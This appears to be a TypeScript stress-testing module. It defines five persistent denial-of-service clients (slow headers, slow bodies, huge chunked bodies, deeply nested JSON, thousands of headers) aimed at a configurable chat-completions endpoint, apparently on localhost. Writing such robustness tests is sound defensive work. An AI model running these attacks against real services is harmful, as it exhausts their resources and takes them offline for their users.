/** Clients that mean harm. Each goes on until it is interrupted. */
import { connect, type Socket } from "node:net"
import { Effect, type Scope } from "effect"

export interface Target {
  readonly url: string
  readonly sockets: number
}

/** Sockets that come back whenever they are hung up on, and what each does with a new connection. */
const besieging = (
  { sockets, url }: Target,
  begin: (socket: Socket) => () => void
): Effect.Effect<void, never, Scope.Scope> =>
  Effect.asVoid(
    Effect.acquireRelease(
      Effect.sync(() => {
        const { hostname, port } = new URL(url)
        const open = new Set<Socket>()
        const again = new Set<NodeJS.Timeout>()
        let over = false
        const attack = () => {
          if (over) return
          const socket = connect(Number(port), hostname)
          open.add(socket)
          let stop = () => undefined as void
          socket.on("connect", () => {
            stop = begin(socket)
          })
          // What comes back is read, so that the answer is not what holds the attacker up.
          socket.resume()
          socket.on("error", () => undefined)
          socket.on("close", () => {
            stop()
            open.delete(socket)
            const timer = setTimeout(() => {
              again.delete(timer)
              attack()
            }, 1_000)
            again.add(timer)
          })
        }
        for (let index = 0; index < sockets; index++) attack()
        return () => {
          over = true
          for (const timer of again) clearTimeout(timer)
          for (const socket of open) socket.destroy()
        }
      }),
      (stop) => Effect.sync(stop)
    )
  )

const dripping = (socket: Socket, text: string) => {
  const timer = setInterval(() => socket.writable && socket.write(text), 500)
  return () => clearInterval(timer)
}

const head = (more: string): string =>
  `POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n${more}`

const nothing = () => undefined

/** Heads that never end. */
const slowHeads = (target: Target) =>
  besieging(target, (socket) => {
    socket.write(head(""))
    return dripping(socket, "x-a: b\r\n")
  })

/** Bodies that never end. */
const slowBodies = (target: Target) =>
  besieging(target, (socket) => {
    socket.write(head("content-length: 1000000\r\n\r\n{"))
    return dripping(socket, " ")
  })

const megabyte = Buffer.alloc(1024 * 1024, 0x20)

/** Bodies that are larger than they may be, a megabyte each time the socket takes one. */
const largeBodies = (target: Target) =>
  besieging(target, (socket) => {
    socket.write(head("transfer-encoding: chunked\r\n\r\n"))
    let sent = 0
    const more = () => {
      if (!socket.writable || sent++ > 40) return
      socket.write("100000\r\n")
      socket.write(megabyte)
      if (socket.write("\r\n")) setImmediate(more)
    }
    socket.on("drain", more)
    more()
    return nothing
  })

const deep = `{"messages":[{"role":"user","content":"x"}],"x":${"[".repeat(200_000)}${"]".repeat(200_000)}}`

/** JSON that is nested 200,000 levels deep. */
const deepJson = (target: Target) =>
  besieging(target, (socket) => {
    socket.write(head(`connection: close\r\ncontent-length: ${deep.length}\r\n\r\n`))
    socket.write(deep)
    return nothing
  })

/** As many headers as fit, and then some. */
const manyHeaders = (target: Target) =>
  besieging(target, (socket) => {
    socket.write(head(Array.from({ length: 4_000 }, (_, index) => `x-${index}: ${index}\r\n`).join("")))
    return nothing
  })

export const attacks = {
  "slow heads": slowHeads,
  "slow bodies": slowBodies,
  "large bodies": largeBodies,
  "deep JSON": deepJson,
  "many headers": manyHeaders
} as const
